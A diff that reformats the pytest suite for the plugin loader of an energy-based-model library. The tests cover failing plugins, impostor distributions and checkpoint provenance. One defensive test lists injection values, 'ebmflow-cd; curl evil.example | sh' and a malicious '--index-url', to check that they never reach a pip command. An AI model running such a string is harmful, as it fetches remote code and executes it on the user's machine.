@@ -22,8 +22,9 @@ from ebmflow.errors import CheckpointError
 _HAS_CD = any(c.name == "cd" for c in ebmflow.components("objective"))
 
 
-def sampler_plugin(module: str, *, header: str = "", samplers: str | None = None,
-                   commands: str | None = None) -> str:
+def sampler_plugin(
+    module: str, *, header: str = "", samplers: str | None = None, commands: str | None = None
+) -> str:
     """A plugin module registering ``<module>-sampler`` (the core's Langevin class under a
     factory of its own), with optional module-level code and hook bodies."""
     samplers = samplers or f"return [Component('{module.replace('_', '-')}-sampler', make)]"
@@ -82,8 +83,8 @@ def test_plugin_that_exits_or_interrupts_is_failed_and_the_cli_keeps_working(
     assert listed["fine"][0]["status"] == "ok"
     assert listed["ebmflow"][0]["status"] == "ok"
     assert result.stderr.splitlines() == [
-        f"ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: "
-        f"{EXITS[statement]}"]
+        f"ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: {EXITS[statement]}"
+    ]
 
     found = fake_site.run("components", "--kind", "sampler", "--json")
     assert found.returncode == 0, found.stderr
@@ -93,8 +94,11 @@ def test_plugin_that_exits_or_interrupts_is_failed_and_the_cli_keeps_working(
 
 
 def test_plugin_that_exits_in_the_library_is_failed_and_create_keeps_working(fake_site):
-    fake_site.add("fake-quitter", {"quitter": "quitter"},
-                  {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")})
+    fake_site.add(
+        "fake-quitter",
+        {"quitter": "quitter"},
+        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
+    )
     result = fake_site.python("""
         import json, warnings
         import ebmflow
@@ -107,14 +111,18 @@ def test_plugin_that_exits_in_the_library_is_failed_and_create_keeps_working(fak
     """)
     assert result.returncode == 0, result.stderr
     report = json.loads(result.stdout)
-    assert report == {"sampler": "Langevin", "status": "failed", "warned": [
-        "ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0"]}
+    assert report == {
+        "sampler": "Langevin",
+        "status": "failed",
+        "warned": ["ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0"],
+    }
 
 
 def test_factory_module_that_exits_is_an_error_not_a_silent_exit(fake_site):
     plugin = sampler_plugin("lazy", samplers="return [Component('lazy', 'lazy_impl:make')]")
-    fake_site.add("fake-lazy", {"lazy": "lazy"}, {
-        "lazy.py": plugin, "lazy_impl.py": "raise SystemExit(0)\n"})
+    fake_site.add(
+        "fake-lazy", {"lazy": "lazy"}, {"lazy.py": plugin, "lazy_impl.py": "raise SystemExit(0)\n"}
+    )
     result = fake_site.python("""
         import ebmflow
         try:
@@ -124,13 +132,16 @@ def test_factory_module_that_exits_is_an_error_not_a_silent_exit(fake_site):
     """)
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == (
-        "sampler 'lazy:lazy': cannot import its factory 'lazy_impl:make' (SystemExit: 0)")
+        "sampler 'lazy:lazy': cannot import its factory 'lazy_impl:make' (SystemExit: 0)"
+    )
 
 
 def test_factory_that_calls_sys_exit_is_an_error_not_a_silent_exit(fake_site):
     plugin = sampler_plugin(
-        "quitter", header="import sys\ndef leave(**kwargs):\n    sys.exit(0)\n",
-        samplers="return [Component('leave', leave)]")
+        "quitter",
+        header="import sys\ndef leave(**kwargs):\n    sys.exit(0)\n",
+        samplers="return [Component('leave', leave)]",
+    )
     fake_site.add("fake-quitter", {"quitter": "quitter"}, {"quitter.py": plugin})
     result = fake_site.python("""
         import ebmflow
@@ -142,45 +153,49 @@ def test_factory_that_calls_sys_exit_is_an_error_not_a_silent_exit(fake_site):
     assert result.returncode == 0, result.stderr
     assert result.stdout.strip() == (
         "sampler 'quitter:leave' (plugin 'quitter', distribution fake-quitter 1.0) raised "
-        "SystemExit: 0 while being built")
+        "SystemExit: 0 while being built"
+    )
 
 
 @pytest.mark.skipif(not _HAS_CD, reason="ebmflow-cd (objective cd) is not installed")
-def test_train_still_trains_and_exits_0_beside_a_plugin_that_exits_at_import(
-    fake_site, tmp_path
-):
-    fake_site.add("fake-quitter", {"quitter": "quitter"},
-                  {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")})
+def test_train_still_trains_and_exits_0_beside_a_plugin_that_exits_at_import(fake_site, tmp_path):
+    fake_site.add(
+        "fake-quitter",
+        {"quitter": "quitter"},
+        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
+    )
     run = tmp_path / "run.toml"
     run.write_text(
         '[data]\nname = "8gaussians"\n\n[energy]\nname = "mlp"\ndim = 2\nwidths = [8]\n\n'
         '[objective]\nname = "cd"\nk = 1\n\n[sampler]\nname = "langevin"\nstep_size = 0.01\n\n'
         "[train]\nsteps = 2\nbatch_size = 16\nseed = 0\ncheckpoint_every = 2\n"
     )
-    result = fake_site.run("train", str(run), "--out", str(tmp_path / "out"), "--no-progress",
-                           OMP_NUM_THREADS="1")
+    result = fake_site.run(
+        "train", str(run), "--out", str(tmp_path / "out"), "--no-progress", OMP_NUM_THREADS="1"
+    )
     assert result.returncode == 0, result.stderr
-    assert "ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0" \
+    assert (
+        "ebmflow: warning: ebmflow plugin 'quitter' failed and is disabled: SystemExit: 0"
         in result.stderr
+    )
     assert (tmp_path / "out" / "checkpoint" / "config.json").is_file()
     assert "step 2 of 2" in result.stdout
 
 
 def test_strict_plugins_reports_a_plugin_exit_as_an_error_with_status_1(fake_site):
-    fake_site.add("fake-quitter", {"quitter": "quitter"},
-                  {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")})
+    fake_site.add(
+        "fake-quitter",
+        {"quitter": "quitter"},
+        {"quitter.py": sampler_plugin("quitter", header="raise SystemExit(0)")},
+    )
     result = fake_site.run("plugins", EBMFLOW_STRICT_PLUGINS="1")
     assert result.returncode == 1
-    assert result.stderr.splitlines() == [
-        "ebmflow: error: plugin 'quitter' raised SystemExit: 0"]
+    assert result.stderr.splitlines() == ["ebmflow: error: plugin 'quitter' raised SystemExit: 0"]
 
 
 def test_a_real_ctrl_c_while_a_plugin_imports_still_interrupts_the_cli(fake_site):
-    header = ("import os, signal, time\n"
-              "os.kill(os.getpid(), signal.SIGINT)\n"
-              "time.sleep(30)\n")
-    fake_site.add("fake-slow", {"slow": "slow"},
-                  {"slow.py": sampler_plugin("slow", header=header)})
+    header = "import os, signal, time\nos.kill(os.getpid(), signal.SIGINT)\ntime.sleep(30)\n"
+    fake_site.add("fake-slow", {"slow": "slow"}, {"slow.py": sampler_plugin("slow", header=header)})
     result = fake_site.run("plugins", "--json")
     assert result.returncode == 130, result.stderr
     assert result.stderr.splitlines() == ["ebmflow: interrupted"]
@@ -190,7 +205,7 @@ def test_a_real_ctrl_c_while_a_plugin_imports_still_interrupts_the_cli(fake_site
 # -- two distributions, one plugin name ---------------------------------------------------
 
 #: a plugin module defining and registering an energy class (``energy_name``)
-OWNER = '''
+OWNER = """
 import torch
 import ebmflow
 from ebmflow import Component
@@ -209,15 +224,21 @@ class Bowl(ebmflow.Energy):
 @ebmflow.hookimpl
 def ebmflow_energies():
     return [Component("bowl", "{module}:Bowl")]
-'''
+"""
 
 
 def owner_site(site, *, impostor: bool) -> None:
-    site.add("fake-owner", {"bowls": "owner_bowls"},
-             {"owner_bowls.py": OWNER.replace("{module}", "owner_bowls")})
+    site.add(
+        "fake-owner",
+        {"bowls": "owner_bowls"},
+        {"owner_bowls.py": OWNER.replace("{module}", "owner_bowls")},
+    )
     if impostor:
-        site.add("fake-impostor", {"bowls": "impostor_bowls"},
-                 {"impostor_bowls.py": OWNER.replace("{module}", "impostor_bowls")})
+        site.add(
+            "fake-impostor",
+            {"bowls": "impostor_bowls"},
+            {"impostor_bowls.py": OWNER.replace("{module}", "impostor_bowls")},
+        )
 
 
 def test_plugin_name_claimed_by_two_distributions_loads_neither(fake_site):
@@ -226,21 +247,25 @@ def test_plugin_name_claimed_by_two_distributions_loads_neither(fake_site):
     listed = plugins_by_name(result)
     claimants = listed["bowls"]
     assert sorted(c["distribution"] for c in claimants) == ["fake-impostor", "fake-owner"]
-    expected = ("the plugin name 'bowls' is claimed by 2 distributions: fake-impostor 1.0, "
-                "fake-owner 1.0; none of them is loaded. Uninstall one, or disable it with "
-                "EBMFLOW_BLOCK_PLUGINS=<its distribution>")
+    expected = (
+        "the plugin name 'bowls' is claimed by 2 distributions: fake-impostor 1.0, "
+        "fake-owner 1.0; none of them is loaded. Uninstall one, or disable it with "
+        "EBMFLOW_BLOCK_PLUGINS=<its distribution>"
+    )
     for claimant in claimants:
         assert (claimant["status"], claimant["error"]) == ("failed", expected)
     # blocking the impostor by its distribution name lets the owner load
-    listed = plugins_by_name(fake_site.run("plugins", "--json",
-                                           EBMFLOW_BLOCK_PLUGINS="fake-impostor"))
+    listed = plugins_by_name(
+        fake_site.run("plugins", "--json", EBMFLOW_BLOCK_PLUGINS="fake-impostor")
+    )
     by_dist = {c["distribution"]: c for c in listed["bowls"]}
     assert by_dist["fake-owner"]["status"] == "ok"
     assert by_dist["fake-impostor"]["status"] == "disabled"
 
 
 def _load_report(site, path: Path, **env: str) -> str:
-    result = site.python(f"""
+    result = site.python(
+        f"""
         import warnings
         import ebmflow
         warnings.simplefilter("ignore", ebmflow.PluginWarning)
@@ -250,7 +275,9 @@ def _load_report(site, path: Path, **env: str) -> str:
             print("CheckpointError:", exc)
         else:
             print("loaded", type(energy).__module__)
-    """, **env)
+    """,
+        **env,
+    )
     assert result.returncode == 0, result.stderr
     return result.stdout.strip()
 
@@ -258,21 +285,27 @@ def _load_report(site, path: Path, **env: str) -> str:
 def test_checkpoint_is_never_rebuilt_with_another_distributions_plugin(fake_site, tmp_path):
     owner_site(fake_site, impostor=True)
     path = tmp_path / "bowl"
-    saved = fake_site.python(f"""
+    saved = fake_site.python(
+        f"""
         import ebmflow
         ebmflow.save(ebmflow.create("energy", "bowls:bowl"), {str(path)!r})
-    """, EBMFLOW_BLOCK_PLUGINS="fake-impostor")
+    """,
+        EBMFLOW_BLOCK_PLUGINS="fake-impostor",
+    )
     assert saved.returncode == 0, saved.stderr
     config = json.loads((path / "config.json").read_text())
     assert (config["plugin"], config["distribution"]) == ("bowls", "fake-owner")
 
     assert _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-impostor") == (
-        "loaded owner_bowls")
+        "loaded owner_bowls"
+    )
     # only the impostor loads: refused, naming both distributions
     report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="fake-owner")
     assert report.startswith("CheckpointError: ")
-    assert ("the checkpoint needs energy 'bowls:bowl' from distribution 'fake-owner', but "
-            "plugin 'bowls' is provided by distribution 'fake-impostor' 1.0") in report
+    assert (
+        "the checkpoint needs energy 'bowls:bowl' from distribution 'fake-owner', but "
+        "plugin 'bowls' is provided by distribution 'fake-impostor' 1.0"
+    ) in report
     # both installed: neither is loaded, so the checkpoint is refused too
     report = _load_report(fake_site, path)
     assert report.startswith("CheckpointError: ")
@@ -286,18 +319,24 @@ def test_a_distribution_naming_its_plugin_cd_cannot_serve_ebmflow_cd_checkpoints
     path = tmp_path / "cd"
     ebmflow.save(ebmflow.create("objective", "cd", sampler="langevin"), path)
     assert json.loads((path / "config.json").read_text())["distribution"] == "ebmflow-cd"
-    impostor = ("import ebmflow\n\n@ebmflow.hookimpl\ndef ebmflow_objectives():\n"
-                "    return [ebmflow.Component('cd', 'ebmflow_cd.cd:ContrastiveDivergence')]\n")
+    impostor = (
+        "import ebmflow\n\n@ebmflow.hookimpl\ndef ebmflow_objectives():\n"
+        "    return [ebmflow.Component('cd', 'ebmflow_cd.cd:ContrastiveDivergence')]\n"
+    )
     fake_site.add("evil-cd", {"cd": "evil_cd"}, {"evil_cd.py": impostor}, version="6.6")
 
     listed = plugins_by_name(fake_site.run("plugins", "--json"))
     assert {c["distribution"]: c["status"] for c in listed["cd"]} == {
-        "ebmflow-cd": "failed", "evil-cd": "failed"}
+        "ebmflow-cd": "failed",
+        "evil-cd": "failed",
+    }
     report = _load_report(fake_site, path)
     assert "claimed by 2 distributions" in report and "evil-cd 6.6" in report
     report = _load_report(fake_site, path, EBMFLOW_BLOCK_PLUGINS="ebmflow-cd")
-    assert "from distribution 'ebmflow-cd', but plugin 'cd' is provided by distribution " \
-           "'evil-cd' 6.6" in report
+    assert (
+        "from distribution 'ebmflow-cd', but plugin 'cd' is provided by distribution "
+        "'evil-cd' 6.6" in report
+    )
 
 
 # -- an alias of another plugin's class ---------------------------------------------------
@@ -305,22 +344,23 @@ def test_a_distribution_naming_its_plugin_cd_cannot_serve_ebmflow_cd_checkpoints
 
 def test_saving_records_the_owner_of_a_class_not_a_plugin_that_aliases_it(fake_site, tmp_path):
     owner_site(fake_site, impostor=False)
-    alias = ("import ebmflow\nfrom ebmflow import Component\n\n@ebmflow.hookimpl\n"
-             "def ebmflow_energies():\n"
-             "    return [Component('a-mlp', 'ebmflow.energies.mlp:MLPEnergy'),\n"
-             "            Component('a-bowl', 'owner_bowls:Bowl')]\n")
+    alias = (
+        "import ebmflow\nfrom ebmflow import Component\n\n@ebmflow.hookimpl\n"
+        "def ebmflow_energies():\n"
+        "    return [Component('a-mlp', 'ebmflow.energies.mlp:MLPEnergy'),\n"
+        "            Component('a-bowl', 'owner_bowls:Bowl')]\n"
+    )
     fake_site.add("fake-alias", {"aaa": "aaa_alias"}, {"aaa_alias.py": alias})
     saved = fake_site.python(f"""
         import ebmflow
-        ebmflow.save(ebmflow.create("energy", "mlp", dim=2), {str(tmp_path / 'mlp')!r})
-        ebmflow.save(ebmflow.create("energy", "bowl"), {str(tmp_path / 'bowl')!r})
+        ebmflow.save(ebmflow.create("energy", "mlp", dim=2), {str(tmp_path / "mlp")!r})
+        ebmflow.save(ebmflow.create("energy", "bowl"), {str(tmp_path / "bowl")!r})
     """)
     assert saved.returncode == 0, saved.stderr
     mlp = json.loads((tmp_path / "mlp" / "config.json").read_text())
     bowl = json.loads((tmp_path / "bowl" / "config.json").read_text())
     assert (mlp["plugin"], mlp["name"], mlp["distribution"]) == ("ebmflow", "mlp", "ebmflow")
-    assert (bowl["plugin"], bowl["name"], bowl["distribution"]) == (
-        "bowls", "bowl", "fake-owner")
+    assert (bowl["plugin"], bowl["name"], bowl["distribution"]) == ("bowls", "bowl", "fake-owner")
     # and so the MLP loads where the alias plugin is not installed
     assert isinstance(ebmflow.load(tmp_path / "mlp"), ebmflow.MLPEnergy)
 
@@ -334,17 +374,18 @@ def _with_record(path: Path, **changes) -> None:
     (path / "config.json").write_text(json.dumps(config))
 
 
-@pytest.mark.parametrize("distribution", [
-    "ebmflow-cd --index-url https://evil.example/simple",
-    "ebmflow-cd==1.0",
-    "ebmflow-cd; curl evil.example | sh",
-    "-r requirements.txt",
-    "ebmflow-cd\nebmflow: error: nothing",
-    "",
-])
-def test_missing_plugin_hint_never_puts_recorded_text_into_a_pip_command(
-    tmp_path, distribution
-):
+@pytest.mark.parametrize(
+    "distribution",
+    [
+        "ebmflow-cd --index-url https://evil.example/simple",
+        "ebmflow-cd==1.0",
+        "ebmflow-cd; curl evil.example | sh",
+        "-r requirements.txt",
+        "ebmflow-cd\nebmflow: error: nothing",
+        "",
+    ],
+)
+def test_missing_plugin_hint_never_puts_recorded_text_into_a_pip_command(tmp_path, distribution):
     path = tmp_path / "gmm"
     ebmflow.save(ebmflow.GMMEnergy.ring(), path)
     _with_record(path, plugin="gone", distribution=distribution)
@@ -353,8 +394,10 @@ def test_missing_plugin_hint_never_puts_recorded_text_into_a_pip_command(
     message = str(caught.value)
     assert "pip" not in message
     assert "\n" not in message
-    assert (f"the checkpoint records distribution {distribution!r}, which is not a valid "
-            f"distribution name") in message
+    assert (
+        f"the checkpoint records distribution {distribution!r}, which is not a valid "
+        f"distribution name"
+    ) in message
 
 
 @pytest.mark.parametrize("distribution", ["ebmflow-gone", "Ebmflow_Gone.2", "x"])
@@ -362,9 +405,12 @@ def test_missing_plugin_hint_names_a_valid_distribution_to_install(tmp_path, dis
     path = tmp_path / "gmm"
     ebmflow.save(ebmflow.GMMEnergy.ring(), path)
     _with_record(path, plugin="gone", distribution=distribution, plugin_version="2.0")
-    with pytest.raises(CheckpointError, match=f"install it: pip install {distribution} "
-                                              rf"\(the checkpoint was written with "
-                                              rf"{distribution} 2\.0\)"):
+    with pytest.raises(
+        CheckpointError,
+        match=f"install it: pip install {distribution} "
+        rf"\(the checkpoint was written with "
+        rf"{distribution} 2\.0\)",
+    ):
         ebmflow.load(path)
 
 
@@ -373,15 +419,20 @@ def test_missing_plugin_hint_names_a_valid_distribution_to_install(tmp_path, dis
 
 def test_plugin_prints_never_reach_the_json_on_stdout(fake_site, tmp_path):
     chatty = sampler_plugin(
-        "chatty", header="print('hello from chatty at import')",
+        "chatty",
+        header="print('hello from chatty at import')",
         samplers="print('hello from the hook'); "
-                 "return [Component('chatty-sampler', 'chatty_impl:make')]",
-        commands="print('hello from the commands hook')")
-    impl = ("import ebmflow\nprint('hello from the factory module')\n\n"
-            "def make(**kwargs):\n    return ebmflow.create('sampler', 'ebmflow:langevin', "
-            "**kwargs)\n")
-    fake_site.add("fake-chatty", {"chatty": "chatty"},
-                  {"chatty.py": chatty, "chatty_impl.py": impl})
+        "return [Component('chatty-sampler', 'chatty_impl:make')]",
+        commands="print('hello from the commands hook')",
+    )
+    impl = (
+        "import ebmflow\nprint('hello from the factory module')\n\n"
+        "def make(**kwargs):\n    return ebmflow.create('sampler', 'ebmflow:langevin', "
+        "**kwargs)\n"
+    )
+    fake_site.add(
+        "fake-chatty", {"chatty": "chatty"}, {"chatty.py": chatty, "chatty_impl.py": impl}
+    )
     for command in (["plugins", "--json"], ["components", "--json"]):
         result = fake_site.run(*command)
         assert result.returncode == 0, result.stderr
@@ -391,9 +442,20 @@ def test_plugin_prints_never_reach_the_json_on_stdout(fake_site, tmp_path):
     checkpoint = tmp_path / "gmm"
     ebmflow.save(ebmflow.GMMEnergy.ring(), checkpoint)
     result = fake_site.run(
-        "sample", str(checkpoint), "--sampler", "chatty-sampler", "--sampler-arg",
-        "step_size=0.05", "--steps", "3", "--n", "8", "--out", str(tmp_path / "s.safetensors"),
-        OMP_NUM_THREADS="1")
+        "sample",
+        str(checkpoint),
+        "--sampler",
+        "chatty-sampler",
+        "--sampler-arg",
+        "step_size=0.05",
+        "--steps",
+        "3",
+        "--n",
+        "8",
+        "--out",
+        str(tmp_path / "s.safetensors"),
+        OMP_NUM_THREADS="1",
+    )
     assert result.returncode == 0, result.stderr
     assert json.loads(result.stdout)["steps"] == 3
     for said in ("chatty at import", "the hook", "the commands hook", "the factory module"):
@@ -402,9 +464,10 @@ def test_plugin_prints_never_reach_the_json_on_stdout(fake_site, tmp_path):
 
 def test_plugin_seeding_torch_does_not_change_a_seeded_create(fake_site):
     seeder = sampler_plugin(
-        "seeder", header="import torch\ntorch.manual_seed(1234)\n",
-        samplers="torch.manual_seed(99); torch.rand(5); "
-                 "return [Component('seeder-sampler', make)]")
+        "seeder",
+        header="import torch\ntorch.manual_seed(1234)\n",
+        samplers="torch.manual_seed(99); torch.rand(5); return [Component('seeder-sampler', make)]",
+    )
     fake_site.add("fake-seeder", {"seeder": "seeder"}, {"seeder.py": seeder})
     result = fake_site.python("""
         import torch
@@ -457,13 +520,14 @@ def test_plugin_loading_leaves_stdout_and_the_sigint_handler_as_it_found_them(ca
 
 def test_after_a_ctrl_c_during_plugin_loading_the_next_lookup_loads_again(fake_site, tmp_path):
     marker = tmp_path / "interrupted-once"
-    header = (f"import os, signal, time\n"
-              f"if not os.path.exists({str(marker)!r}):\n"
-              f"    open({str(marker)!r}, 'w').close()\n"
-              f"    os.kill(os.getpid(), signal.SIGINT)\n"
-              f"    time.sleep(30)\n")
-    fake_site.add("fake-slow", {"slow": "slow"},
-                  {"slow.py": sampler_plugin("slow", header=header)})
+    header = (
+        f"import os, signal, time\n"
+        f"if not os.path.exists({str(marker)!r}):\n"
+        f"    open({str(marker)!r}, 'w').close()\n"
+        f"    os.kill(os.getpid(), signal.SIGINT)\n"
+        f"    time.sleep(30)\n"
+    )
+    fake_site.add("fake-slow", {"slow": "slow"}, {"slow.py": sampler_plugin("slow", header=header)})
     result = fake_site.python("""
         import ebmflow
         try:
@@ -475,5 +539,4 @@ def test_after_a_ctrl_c_during_plugin_loading_the_next_lookup_loads_again(fake_s
         print(type(ebmflow.create("sampler", "slow-sampler", step_size=0.1)).__name__)
     """)
     assert result.returncode == 0, result.stderr
-    assert result.stdout.splitlines() == [
-        "interrupted", "[('slow', 'ok')]", "Langevin"]
+    assert result.stdout.splitlines() == ["interrupted", "[('slow', 'ok')]", "Langevin"]
